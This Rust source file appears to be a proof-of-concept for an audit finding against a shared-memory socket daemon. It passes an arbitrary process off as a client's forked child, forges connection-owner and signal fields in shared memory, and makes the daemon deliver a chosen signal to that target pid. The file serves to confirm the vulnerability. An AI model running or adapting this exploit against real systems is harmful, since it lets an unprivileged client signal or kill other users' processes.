//! Finding 1: a process is passed off as a child, and F_SETOWN of a connection names it.
//!
//! That a signal to oneself does come is the check of the attack: `signal self`.

use crate::client::{Client, std_fd};
use sd_proto::Request;
use sd_shm::channel::Side;
use sd_shm::slab::HAS_COLD;
use std::io;
use std::net::TcpListener;
use std::os::fd::AsRawFd;
use std::sync::atomic::Ordering;

/// Process 0 is this one.
pub(crate) fn run(pid: i32, signal: u16) -> io::Result<()> {
    let target = if pid == 0 { std::process::id() as i32 } else { pid };
    let (server, client) = (Client::register()?, Client::register()?);
    let listener = TcpListener::bind("127.0.0.1:0")?;
    server.listen(0, &listener)?;
    let (route, _) = client.connect(listener.local_addr()?.port(), false)?;
    let channel = server.take_channel().map_err(|error| io::Error::other(format!("{route:?}: {error}")))?;
    if pid != 0 {
        pass_off(&server, target)?;
    }
    let endpoint = server.pretend(0, channel.id, Side::B, 0, 80 << 16 | 40000);
    endpoint.flags.fetch_or(HAS_COLD, Ordering::AcqRel);
    let Some(cold) = server.slab.cold(0) else { unreachable!("a small index") };
    cold.owner.store(target as u32, Ordering::Relaxed);
    cold.status.store(libc::O_ASYNC as u32, Ordering::Relaxed);
    cold.signal.store(signal, Ordering::Release);
    let words = &channel.map.slot(0).side[Side::B as usize];
    words.make_cold().wants_signals.store(1, Ordering::Release);
    for urgent in [false, true] {
        client.control.tell(Request::Signal { channel: channel.id, slot: 0, side: 0, urgent }, &[])?;
        client.settle()?;
    }
    println!("ready");
    Ok(())
}

/// As every number that a child can have.
fn pass_off(server: &Client, pid: i32) -> io::Result<()> {
    let pidfd = crate::client::own(sd_sys::fd::pidfd_open(pid))?;
    for member in [1, 63] {
        let pair = sd_sys::msg::pair_with_credentials().map_err(|e| io::Error::from_raw_os_error(e.0))?;
        let [monitors, childs] = pair.map(std_fd);
        server.control.tell(Request::Fork { member, serial: member }, &[monitors.as_raw_fd()])?;
        server.control.tell(Request::Born { serial: member }, &[pidfd.as_raw_fd()])?;
        // The monitor's end of the pair lives as long as this one.
        std::mem::forget(childs);
    }
    server.settle()
}
